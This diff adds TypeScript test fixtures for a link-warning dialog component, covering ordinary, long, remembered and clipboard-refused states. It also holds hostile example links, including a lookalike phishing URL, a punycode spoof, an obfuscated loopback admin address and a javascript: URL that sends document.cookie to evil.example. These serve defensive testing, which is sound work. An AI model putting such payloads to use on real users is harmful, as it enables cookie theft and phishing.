@@ -1,0 +1,67 @@
+import type { PorticoLinkPrompt } from '../../../elements/link-prompt/link-prompt.js';
+import type { ElementState, ElementStates } from './types.js';
+
+const asking = (href: string, text = ''): ElementState<PorticoLinkPrompt> => ({
+  prepare: (prompt) => {
+    Object.assign(prompt, { href, text, open: true });
+  },
+});
+
+export const states: ElementStates<PorticoLinkPrompt> = {
+  name: 'link-prompt',
+  states: {
+    unverified: {
+      ...asking('https://docs.example.org/2026/guide.html'),
+      tree: [
+        'alertdialog "Open an external link"',
+        'heading "Open an external link"',
+        'checkbox "Do not remind again"',
+        'button "Copy link"',
+        'button "Cancel"',
+        'button "Open"',
+      ],
+    },
+    remembered: {
+      prepare: async (prompt) => {
+        prompt.href = 'https://docs.example.org/';
+        prompt.show();
+        await prompt.updateComplete;
+        prompt.shadowRoot?.querySelector<HTMLElement>('input')?.click();
+      },
+    },
+    long: asking(
+      `https://${'very-long-name-of-a-host-that-does-not-fit.'.repeat(3)}example.org:8443/a/${'path/'.repeat(60)}?q=${'x'.repeat(400)}`,
+    ),
+    deceptive: {
+      ...asking('https://oa.example.com@xn--exmple-4nf.com/login', 'oa.example.com'),
+      tree: [
+        'alertdialog "This link may be posing as another site"',
+        'button "Open anyway"',
+        'button "Do not open"',
+      ],
+    },
+    encoded: asking('https://xn--mnchen-3ya.example/', 'city.example.com'),
+    number: asking('http://0x7f.1:8080/admin'),
+    dot: asking('https://bank.example./'),
+    program: {
+      ...asking('javascript:fetch("https://evil.example/"+document.cookie)'),
+      tree: ['alertdialog "This link cannot be opened"', 'button "Close"'],
+    },
+    unreadable: asking('https://evil.example％2foa.example.com/'),
+    refused: {
+      prepare: async (prompt) => {
+        Object.assign(prompt, { href: 'https://docs.example.org/2026/guide.html', open: true });
+        await prompt.updateComplete;
+        const page = prompt.ownerDocument as unknown as { execCommand?: () => boolean };
+        const { clipboard } = (prompt.ownerDocument.defaultView as Window).navigator;
+        // Own properties hide the methods of the prototype for as long as the state is being made.
+        clipboard.writeText = () => Promise.reject(new DOMException('refused', 'NotAllowedError'));
+        page.execCommand = () => false;
+        prompt.shadowRoot?.querySelector<HTMLElement>('.copy')?.click();
+        while (!prompt.shadowRoot?.querySelector('[role=status].hint')) await prompt.updateComplete;
+        Reflect.deleteProperty(clipboard, 'writeText');
+        Reflect.deleteProperty(page, 'execCommand');
+      },
+    },
+  },
+};
